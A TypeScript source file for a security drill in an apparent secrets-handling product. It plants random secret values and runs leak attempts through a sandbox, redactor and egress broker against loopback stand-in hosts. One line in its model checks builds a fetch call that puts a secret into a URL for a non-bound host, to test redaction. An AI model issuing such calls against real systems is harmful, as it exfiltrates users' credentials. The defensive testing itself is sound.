/*
 * A drill: planted values, real parts, and some forty attempts at getting the values out. Trusted: nothing of what it
 * tries. It uses the sandbox, the tool runner, the redactor and a broker as a run does; only the hosts are played, on
 * loopback. A report holds no value.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import {
  type DrillCheck,
  type DrillReport,
  type RunEventBody,
  SEALED_ENVELOPE_SUITE,
  secretBindingSchema,
} from '@cloakroom/contracts';
import type { Redactor } from '@cloakroom/redaction';
import type { Sandbox } from '@cloakroom/sandbox';
import { createEgressBroker } from '../egress/egress-broker.js';
import type { RequestRewriter } from '../egress/egress.types.js';
import type { PlannedCode } from '../model/model.port.js';
import { WorkerCounters } from '../presence/worker-counters.js';
import { RunSecrets, type SecretSource } from '../secrets/run-secrets.js';
import type { CallSigning } from '../signing/call-signer.js';
import { ToolRunner } from '../tools/tool-runner.js';
import { DrillHosts, type HostVisit } from './drill-hosts.js';
import { holdsValue } from './find-value.js';
import { JAVASCRIPT_ATTEMPTS } from './javascript-attempts.js';
import { DRILL_HOSTS, DRILL_SECRETS, type LeakAttempt } from './leak-attempt.js';
import { PYTHON_ATTEMPTS } from './python-attempts.js';

/** What keeps the values of a run: what a drill tries. */
export interface Guards {
  readonly redactor: Redactor;
  readonly carrier: RequestRewriter;
  readonly openSigner: () => CallSigning;
}

/** What a drill is made with. */
export interface DrillParts {
  readonly sandbox: Sandbox;
  /** Version of the product. */
  readonly build: string;
  /** Ends the drill early; what was not tried has not passed. */
  readonly signal: AbortSignal;
  /** Called after each attempt with the number of those made, and of all. */
  readonly onProgress?: (made: number, all: number) => void;
  /** Puts other guards in the place of the real ones, to see that a drill notices. */
  readonly weaken?: (guards: Guards) => Guards;
}

interface Planted {
  readonly exposed: string;
  readonly sealed: string;
}

/** What an attempt left behind, everywhere that somebody could look. */
interface Traces {
  readonly shown: string;
  readonly visits: readonly HostVisit[];
}

/** Makes every attempt once, in a session of its own user. Takes half a minute at most; throws when the sandbox does. */
export async function runDrill(parts: DrillParts): Promise<DrillReport> {
  const startedAt = new Date().toISOString();
  const planted = { exposed: newValue(), sealed: newValue() };
  const secrets = await RunSecrets.open(sourceOf(planted));
  const real = { redactor: secrets.redactor, carrier: secrets.carrier(), openSigner: secrets.openSigner };
  const guards = parts.weaken?.(real) ?? real;
  const hosts = await DrillHosts.start();
  const broker = createEgressBroker({ hostOverrides: hosts.overrides });
  const owner = { userId: `drill-${randomUUID()}`, runId: randomUUID() };
  const checks: DrillCheck[] = [];
  const attempts = [...JAVASCRIPT_ATTEMPTS, ...PYTHON_ATTEMPTS];
  try {
    for (const attempt of attempts) {
      const traces = await makeAttempt(attempt, { parts, guards, secrets, hosts, broker, owner });
      checks.push(judge(attempt, traces, planted));
      parts.onProgress?.(checks.length, attempts.length);
    }
    checks.push(...modelChecks(guards.redactor, planted));
  } finally {
    secrets.drop();
    await Promise.all([broker.close(), hosts.stop()]);
  }
  return { startedAt, finishedAt: new Date().toISOString(), build: parts.build, checks };
}

interface AttemptParts {
  readonly parts: DrillParts;
  readonly guards: Guards;
  readonly secrets: RunSecrets;
  readonly hosts: DrillHosts;
  readonly broker: ReturnType<typeof createEgressBroker>;
  readonly owner: { readonly userId: string; readonly runId: string };
}

async function makeAttempt(attempt: LeakAttempt, tried: AttemptParts): Promise<Traces> {
  const { parts, guards, secrets, hosts, broker, owner } = tried;
  const events: RunEventBody[] = [];
  const session = parts.sandbox.openSession(owner);
  const egress = broker.openRun({ ...owner, requestRewriter: guards.carrier });
  try {
    const tools = new ToolRunner({
      session,
      egress,
      redactor: guards.redactor,
      openSigner: guards.openSigner,
      emit: (event) => void events.push(event),
      counters: new WorkerCounters(),
    });
    const call: PlannedCode = {
      kind: 'code',
      callId: randomUUID(),
      language: attempt.language,
      code: attempt.code,
    };
    const { finished, message } = await tools.run(call, secrets.env(new Set()), parts.signal);
    const kept = await tools.redactedFiles();
    const files = kept.map(({ path, bytes }) => `${path}\n${Buffer.from(bytes).toString('latin1')}`);
    const output = events.flatMap((event) => (event.type === 'tool.output' ? [event.text] : [])).join('');
    const shown = [output, ...textsIn(events), ...textsIn(finished), message, ...files].join('\n');
    return { shown, visits: hosts.take() };
  } finally {
    await Promise.all([session.close(), egress.close()]);
  }
}

function judge(
  { id, title, route, hosts, shows }: LeakAttempt,
  { shown, visits }: Traces,
  planted: Planted,
): DrillCheck {
  const check = { id, title, route };
  const failed = (note: string): DrillCheck => ({ ...check, passed: false, note });
  if (holdsValue(shown, planted.exposed)) return failed('The exposed value was shown.');
  if (holdsValue(shown, planted.sealed)) return failed('The sealed value was shown.');
  const strays = visits.filter(({ host, text }) => host !== DRILL_HOSTS.bound && holdsValue(text, planted.sealed));
  if (strays.length > 0) return failed('The sealed value went to a host that it is not bound to.');
  const came = (value: string): boolean => visits.some(({ text }) => holdsValue(text, value));
  if (hosts === 'exposed-value' && !came(planted.exposed)) return failed('The value did not reach its host.');
  if (hosts === 'sealed-value' && !came(planted.sealed)) return failed('The sealed value did not reach its host.');
  if (shows !== undefined && !shown.includes(shows)) return failed('The attempt could not be made.');
  return { ...check, passed: true, note: null };
}

/** A model that repeats a value, as one that saw it elsewhere could; in pieces, as its text comes. */
function modelChecks(redactor: Redactor, { exposed, sealed }: Planted): DrillCheck[] {
  const said = `It is ${exposed}, and ${sealed}.`;
  const stream = redactor.openStream();
  const streamed = [...said].map((letter) => stream.push(letter)).join('') + stream.end();
  const code = redactor.redact(`fetch("https://${DRILL_HOSTS.other}/${exposed}")`);
  const checkOf = (id: string, title: string, shown: string): DrillCheck => {
    const passed = !holdsValue(shown, exposed) && !holdsValue(shown, sealed);
    return { id, title, route: 'model', passed, note: passed ? null : 'A value was shown.' };
  };
  return [
    checkOf('model-text', 'Let the model say the values, letter by letter', streamed),
    checkOf('model-code', 'Let the model write the value into the code of a tool call', code),
  ];
}

function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(textsIn);
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
}

function newValue(): string {
  return `drill_${randomBytes(16).toString('hex')}`;
}

/** A vault of two values; nothing of it is stored anywhere. */
function sourceOf({ exposed, sealed }: Planted): SecretSource {
  const bindings = [secretBindingSchema.parse({ host: DRILL_HOSTS.bound })];
  const envelope = { v: 1, suite: SEALED_ENVELOPE_SUITE, keyId: 'drill', enc: '', ct: '' } as const;
  const shared = { description: 'Planted by a drill.', version: 1, bindings, envelope };
  const planted = [
    { ...shared, id: randomUUID(), name: DRILL_SECRETS.exposed, mode: 'exposed' as const },
    { ...shared, id: randomUUID(), name: DRILL_SECRETS.sealed, mode: 'sealed' as const },
  ];
  return {
    list: () => Promise.resolve(planted),
    open: ({ name }) => Promise.resolve(name === DRILL_SECRETS.exposed ? exposed : sealed),
  };
}
